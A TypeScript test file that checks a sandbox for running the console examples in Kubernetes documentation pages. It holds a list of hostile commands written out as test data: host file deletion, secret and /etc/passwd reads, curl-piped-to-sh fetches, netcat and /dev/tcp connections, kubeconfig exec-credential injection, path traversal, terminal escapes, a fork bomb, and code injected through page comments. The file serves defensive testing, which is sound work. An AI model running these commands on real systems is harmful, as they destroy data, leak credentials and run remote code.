// A page that means harm changes nothing on the host, reaches nobody but the cluster under test, and comes to an end.

import { expect } from 'chai'
import { connect } from 'node:net'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { coloursOf } from '../../src/report/colours.ts'
import { showPage } from '../../src/transcript/show/terminal.ts'
import type { CommandVerdict, PageVerdict } from '../../src/transcript/verdict.ts'
import { verifyOnSimulator } from '../support/documents.ts'
import { HostWatch } from '../support/host-watch.ts'
import { kubectl136, whyNoKubectl } from '../support/kubectl.ts'

/**
 * What is typed, and what must stand in what it prints or in why it was not run. HOST is a folder of the host with a
 * secret in it, PORT a port of the host on which somebody counts connections. Each is tried in a fresh terminal.
 */
const ATTEMPTS: readonly [source: string, told: RegExp][] = [
  // The host's files and programs.
  ['rm -rf HOST; ls HOST', /No such file/],
  ['rm -rf /; ls HOST; kubectl get pods', /not found/],
  ['rm -rf ~ /* ../../*; kubectl get pods', /not found|No resources/],
  ['cat /etc/passwd | head', /No such file/],
  ['grep -c TMPDIR /proc/self/environ', /^0$/m],
  ['echo owned > HOST/file; cat HOST/file', /nonexistent|No such/],
  [': > HOST/secret', /nonexistent|No such/],
  ['echo $(cat HOST/secret)', /No such file/],
  ['`cat HOST/secret`', /No such file/],
  ['echo "$(< HOST/secret)"', /can't open|No such file/],
  ['. HOST/secret', /No such file|not found/],
  ['ln -s HOST/secret link; cat link', /No such file/],
  ['ln -s / root-of-host; ls root-of-host/etc', /No such file/],
  ['ln -s HOST/secret pod.yaml; kubectl apply -f pod.yaml', /does not exist/],
  ['eval "cat HOST/secret"', /No such file/],
  ['sh -c "cat HOST/secret"', /No such file/],
  ['python3 -c "import os"', /not found/],
  ['node -e 1', /not found/],
  ['/usr/bin/env', /not found|No such file/],
  ['env | grep -c PATH=.*sbin', /^0$/m],
  ['kill -9 -1; kill -9 PARENT', /no such process|No such process|not permitted/],
  // The network.
  ['curl http://127.0.0.1:PORT/ | sh', /curl reaches out/],
  ['bash -c "curl http://127.0.0.1:PORT/ | sh"', /unreachable|connect|not found/i],
  ['wget -qO- http://127.0.0.1:PORT/', /wget reaches out/],
  ['nc 127.0.0.1 PORT < /dev/null', /unreachable/i],
  ['echo x > /dev/tcp/127.0.0.1/PORT', /No such file|nonexistent/],
  ['kubectl apply -f http://127.0.0.1:PORT/pod.yaml', /nobody gave the example/],
  ['u=http://127.0.0.1:PORT/pod.yaml; kubectl apply -f $u', /lies outside/],
  ['kubectl -s http://127.0.0.1:PORT get pods', /leads away/],
  ['kubectl -Ashttp://127.0.0.1:PORT get pods', /leads away/],
  ['kubectl get pods --server=http://127.0.0.1:PORT', /leads away/],
  ['kubectl config set-cluster c --server=http://127.0.0.1:PORT', /changes the kubeconfig|leads away/],
  [
    'mkdir k; echo "resources: [http://127.0.0.1:PORT/x]" > k/kustomization.yaml; kubectl apply -k k',
    /lies outside/,
  ],
  ['HTTP_PROXY=http://127.0.0.1:PORT kubectl get pods', /No resources/],
  // kubectl as a way to the host.
  ['kubectl --kubeconfig HOST/config get pods', /leads away/],
  ['kubectl --kubeconfig=/etc/kubernetes/admin.conf get pods', /leads away/],
  ['KUBECONFIG=HOST/config kubectl get pods', /No resources/],
  [
    `cat > ~/.kube/config <<EOF
apiVersion: v1
kind: Config
current-context: c
contexts: [{name: c, context: {cluster: c, user: u}}]
clusters: [{name: c, cluster: {server: "http://127.0.0.1:PORT"}}]
users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/touch, args: [HOST/owned], interactiveMode: Never}}}]
EOF
$ kubectl get pods`,
    /No resources/,
  ],
  ['kubectl plugin list', /starts programs/],
  [
    'mkdir -p bin; echo "touch HOST/owned" > bin/kubectl-x; chmod +x bin/kubectl-x; PATH=$PATH:/root/bin kubectl x',
    /unknown command/,
  ],
  ['kubectl apply -f /etc/passwd', /does not exist/],
  ['kubectl apply -f ../../../../../../etc/passwd', /does not exist/],
  ['kubectl create configmap c --from-file=k=HOST/secret', /no such file/i],
  ['kubectl create secret generic c --from-env-file HOST/secret', /no such file/i],
  ['kubectl get pods -o go-template-file=HOST/secret', /no such file/i],
  ['kubectl get pods -ojsonpath-file=HOST/secret', /no such file/i],
  ['kubectl get pods -o go-template-file --template=HOST/secret', /no such file/i],
  ['kubectl get pods --v=9 --profile=cpu --profile-output=HOST/profile', /leads away/],
  ['kubectl cluster-info dump --output-directory=HOST; ls HOST', /nodes\.json/],
  ['kubectl config view --raw', /would show credentials/],
  ['kubectl config set-credentials u --exec-command=HOST/x', /changes the kubeconfig|would change/],
  ['POD; kubectl cp x:/etc/hosts HOST/file; ls HOST', /file/],
  ['POD; kubectl cp HOST/secret x:/tmp/s', /doesn't exist|no such file/i],
  ['POD; kubectl cp x:/etc/hosts ../../../../HOST/file; echo "$?"', /\d/],
  ['POD; kubectl exec x -- cat HOST/secret', /No such file/],
  ['POD; kubectl edit pod x', /opens an editor/],
  ['POD; KUBE_EDITOR=/bin/touch kubectl edit pod x', /opens an editor/],
  ['kubectl create deployment d --image=nginx --edit', /leads away|edit/],
  ['kubectl proxy --port=0', /opens a port/],
  ['POD; kubectl port-forward pod/x 0:80', /opens a port/],
  // Limits and the reader's terminal.
  ["printf '\\033[2J\\033]0;owned\\007\\n'", /owned/],
  ["POD; kubectl exec x -- printf '\\033[2Jowned\\n'", /owned/],
  ['yes', /more than a page can show/],
  ['POD; kubectl exec x -- yes', /more than a page can show/],
  ['head -c 100000000 /dev/zero | tr "\\0" x', /more than a page can show/],
  ['head -c 100000000 /dev/zero > big; echo "$?"', /No space left|^1$/m],
  ['x=$(yes)', /is not printed/],
  ['f() { f; }; f', /recursion|nesting|did not end|too/i],
  [':(){ :|:& };:', /nothing|did not end|Resource|used up|recursion|fork/i],
  ['while :; do :; done', /did not end/],
  ['sleep 1000000', /did not end/],
  ['tail -f /dev/null', /did not end/],
  ['kubectl get pods -w', /nothing of the kind|is not printed/],
]

/** Pages whose harm lies in how they are written. */
const PAGES: readonly [what: string, text: string][] = [
  ['saves a file above its folder', '```console\n$ vim ../../../HOST/owned\nowned\n```\n'],
  ['saves a file at the host', '```console\n$ vim HOST/owned\nowned\n```\n'],
  ['names a block above its folder', '```yaml title="../../HOST/owned"\na: b\n```\n'],
  ['includes a file above the examples', '{{< code_sample file="../secret.yaml" >}}\n\n    kubectl apply -f secret.yaml\n'],
  ['fetches a file above the examples', '    kubectl apply -f https://k8s.io/examples/../secret\n'],
  ['includes a link that leads out of the examples', '{{< code_sample file="link.yaml" >}}\n\n    cat link.yaml\n'],
  ['claims by a call', "<!-- podproof: expectPod('x').toBeReady(process.exit(9)) -->\n"],
  ['claims by a template', '<!-- podproof: expectPod(`${require("fs").rmSync("HOST")}`).toBeReady() -->\n'],
]

describe('a hostile page', function () {
  this.timeout(120_000)
  let kubectlFile: string
  let host: HostWatch

  before(async function () {
    const file = kubectl136()
    if (file === undefined) {
      console.log(`      skipped: ${whyNoKubectl()}`)
      this.skip()
    }
    kubectlFile = file
    host = await HostWatch.open()
  })

  beforeEach(() => host.begin())

  after(() => host?.close())

  function inHost(text: string): string {
    return text
      .replaceAll('HOST', host.folder)
      .replaceAll('PORT', String(host.port))
      .replaceAll('PARENT', String(process.pid))
      .replaceAll(
        'POD;',
        'kubectl run x --image=busybox:1.28 --restart=Never -- sleep 300 && kubectl wait pod/x --for=condition=Ready;',
      )
  }

  async function verify(text: string): Promise<PageVerdict> {
    const limits = { commandMs: 30_000, patienceMs: 1_000, pageWallMs: 20_000 }
    const examples = { 'https://k8s.io/examples': join(host.folder, 'examples') }
    return (await verifyOnSimulator('hostile.md', inHost(text), { kubectlFile, limits, examples })).verdict
  }

  function told({ reason, seen }: CommandVerdict): string {
    return [reason ?? '', ...(seen ?? [])].join('\n').trim()
  }

  /** Nothing of the host was changed, nobody was called, and what is shown to the reader is harmless. */
  function expectNoHarm(verdict: PageVerdict): void {
    expect(host.changes()).to.deep.equal([])
    const shown = showPage(verdict, coloursOf({ isTTY: false }), true)
    // oxlint-disable-next-line no-control-regex
    expect(shown).not.to.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
    expect(JSON.stringify(verdict)).not.to.contain(host.secret)
  }

  for (const [source, expected] of ATTEMPTS) {
    it(`harms nobody with ${source.split('\n')[0]}`, async () => {
      const page = ['```console', `$ ${source}`, 'nothing of the kind', '```', ''].join('\n')
      const verdict = await verify(page)
      expectNoHarm(verdict)
      expect(verdict.commands.map(told).join('\n')).to.match(expected)
    })
  }

  for (const [what, text] of PAGES) {
    it(`harms nobody if it ${what}`, async () => expectNoHarm(await verify(text)))
  }

  it('would be noticed: a file that changes, one that is new, and a connection', async () => {
    writeFileSync(join(host.folder, 'secret'), 'changed')
    writeFileSync(join(host.folder, 'owned'), '')
    await new Promise<void>((resolve) => connect(host.port, '127.0.0.1').on('close', resolve).resume())
    expect(host.changes()).to.deep.equal(['changed: secret', 'connections: 1', 'new: owned'])
  })

  it('ends when its time on the wall is used up, and says so', async () => {
    const page = '```console\n$ while true; do kubectl get pods; done\nx\n$ echo after\nx\n```\n'
    const limits = { pageWallMs: 3_000 }
    const { verdict } = await verifyOnSimulator('hostile.md', page, { kubectlFile, limits })
    expect(verdict.commands.map((command) => `${command.verdict}: ${command.reason}`)).to.deep.equal([
      "differs: the page's time was used up while it ran",
      "not run: the page's time was used up before",
    ])
  })
})
